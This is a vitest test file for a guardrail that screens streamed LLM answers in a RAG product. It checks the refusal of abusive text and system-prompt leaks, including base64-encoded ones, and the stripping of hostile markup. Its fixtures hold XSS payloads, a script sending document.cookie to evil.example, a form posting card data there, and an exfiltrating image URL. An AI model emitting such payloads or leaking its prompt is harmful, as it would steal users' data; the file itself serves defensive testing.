import { describe, expect, it } from 'vitest';
import { DEFAULT_GUARDRAILS } from '@ragship/core';
import { ANSWER_PROMPT_TEXT } from '../answer-prompt.js';
import type { Citation } from '../citation.js';
import { IMAGE_REMOVED } from './neutralize-links.js';
import { createAnswerScreen, type AnswerScreenOptions } from './screen-answer.js';
import type { ScreenFinding } from './screen-refusal.js';

const CITATIONS: Citation[] = [
  { n: 1, chunkId: 'c', docId: 'd', source: 'https://docs.example.com/a', title: 't', score: 1, snippet: '', text: '' },
];

function screenOf(overrides: Partial<AnswerScreenOptions['settings']> = {}) {
  const findings: ScreenFinding[] = [];
  const attributes: Record<string, string[]> = {};
  const screen = createAnswerScreen({
    settings: { ...DEFAULT_GUARDRAILS.answers, ...overrides },
    citations: CITATIONS,
    promptTemplate: ANSWER_PROMPT_TEXT,
    recorder: {
      onFinding: (finding) => findings.push(finding),
      span: { setAttribute: (key: string, value: string[]) => (attributes[key] = value) },
    },
  });
  return { screen, findings, attributes };
}

async function* from(pieces: readonly string[]): AsyncIterable<string> {
  for (const piece of pieces) {
    await Promise.resolve();
    yield piece;
  }
}

/** The pieces released before the stream ended or threw, and what it threw. */
async function drain(pieces: AsyncIterable<string>): Promise<{ released: string[]; error: unknown }> {
  const released: string[] = [];
  try {
    for await (const piece of pieces) released.push(piece);
    return { released, error: null };
  } catch (error) {
    return { released, error };
  }
}

const wordByWord = (text: string) => text.match(/\S+\s*/g) ?? [];

describe('answer screen', () => {
  it('when a streamed answer turns abusive mid-word, then nothing abusive is released and the stream ends ANSWER_REFUSED', async () => {
    const { screen, findings } = screenOf();
    const { released, error } = await drain(screen.pieces(from(['Rolling back ', 'fu', 'cking easy.'])));
    expect(released.join('')).toBe('Rolling back ');
    expect(error).toMatchObject({
      code: 'ANSWER_REFUSED',
      message: 'The answer was refused: it contains abusive language (toxicity).',
    });
    expect(findings).toEqual([expect.objectContaining({ check: 'toxicity', action: 'refuse' })]);
  });

  it('when a streamed answer starts reciting the system prompt, then no run long enough to leak is released before it is refused', async () => {
    const { screen } = screenOf();
    const leak = `Sure! ${ANSWER_PROMPT_TEXT.slice('system: '.length)}`;
    const { released, error } = await drain(screen.pieces(from(wordByWord(leak))));
    expect(error).toMatchObject({ code: 'ANSWER_REFUSED', check: 'system_prompt' });
    expect(released.join('')).toBe('Sure! ');
  });

  it('when an ordinary answer streams, then it is released piece by piece, unchanged', async () => {
    const { screen, findings } = screenOf();
    const answer = 'To roll back an index, run ragship rollback docs --env prod. It takes a second [1].';
    const { released, error } = await drain(screen.pieces(from(wordByWord(answer))));
    expect(error).toBeNull();
    expect(released.join('')).toBe(answer);
    expect(released.length).toBeGreaterThan(5);
    expect(findings).toEqual([]);
  });

  it('when an image to another host arrives in pieces, then no piece carries its URL and it is removed', async () => {
    const { screen } = screenOf();
    const pieces = [
      'See ',
      '![x](https://ev',
      'il.example/p.png?q=',
      'secret) and ',
      '[docs](https://docs.example.com/a) [1].',
    ];
    const { released } = await drain(screen.pieces(from(pieces)));
    expect(released.join('')).toBe(`See ${IMAGE_REMOVED} and [docs](https://docs.example.com/a) [1].`);
    expect(released.some((piece) => piece.includes('evil'))).toBe(false);
  });

  it('when a check only flags, then the answer passes unchanged and the finding is recorded once, on the span too', () => {
    const { screen, findings, attributes } = screenOf({ toxicity: 'flag' });
    const text = 'Damn this shit, rollback is easy. Such shit.';
    expect(screen.text(text)).toBe(text);
    expect(findings).toEqual([
      { target: 'answer', check: 'toxicity', action: 'flag', reason: 'it contains abusive language' },
    ]);
    expect(attributes).toEqual({ 'ragship.guardrail.answer': ['toxicity:flag'] });
  });

  it('when the model recites the system prompt in base64, then the JSON answer is refused', () => {
    const { screen, findings } = screenOf();
    const encoded = Buffer.from(ANSWER_PROMPT_TEXT).toString('base64');
    expect(() => screen.text(`The census was taken in 2029 [1]. For auditing: ${encoded}`)).toThrow(
      expect.objectContaining({ code: 'ANSWER_REFUSED', check: 'system_prompt' }),
    );
    expect(findings).toEqual([expect.objectContaining({ check: 'system_prompt', action: 'refuse' })]);
  });

  it('when a streamed answer recites the system prompt in base64 wrapped over lines, then no line of it is released and the stream ends ANSWER_REFUSED', async () => {
    const { screen } = screenOf();
    const lines = Buffer.from(ANSWER_PROMPT_TEXT)
      .toString('base64')
      .match(/.{1,76}/g)!;
    const answer = `The census was taken in 2029 [1].\n\nFor auditing:\n${lines.join('\n')}\n\nThat is all.`;
    const { released, error } = await drain(screen.pieces(from(wordByWord(answer))));
    expect(error).toMatchObject({ code: 'ANSWER_REFUSED', check: 'system_prompt' });
    expect(released.join('')).toBe('The census was taken in 2029 [1].\n\nFor auditing:\n');
  });

  it('when an answer has script, an event handler and a form, then they are removed in JSON and in a stream alike, split tags too', async () => {
    const answer =
      'Swim caps are required [1]. <img src=x onerror=alert(1)> <script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
      '<form action="https://evil.example/pay">Card: <input name="card"></form> p < 0.05, **always**.';
    const expected = 'Swim caps are required [1].  Card:  p < 0.05, **always**.';
    expect(screenOf().screen.text(answer)).toBe(expected);
    for (const pieces of [wordByWord(answer), answer.match(/.{1,3}/gs)!]) {
      const { released, error } = await drain(screenOf().screen.pieces(from(pieces)));
      expect(error).toBeNull();
      expect(released.join('')).toBe(expected);
    }
  });

  it('when markup is allowed, then the answer keeps it as generated', () => {
    const { screen } = screenOf({ markup: 'allow', links: 'allow' });
    const answer = 'Swim caps are required [1]. <svg onload=alert(1)>';
    expect(screen.text(answer)).toBe(answer);
  });

  it('when the answerer has no system prompt (extractive), then quoting words like the prompt is no leak', () => {
    const screen = createAnswerScreen({
      settings: DEFAULT_GUARDRAILS.answers,
      citations: [],
      recorder: {},
    });
    const text = ANSWER_PROMPT_TEXT.slice(0, 300);
    expect(() => screen.text(text)).not.toThrow();
  });
});
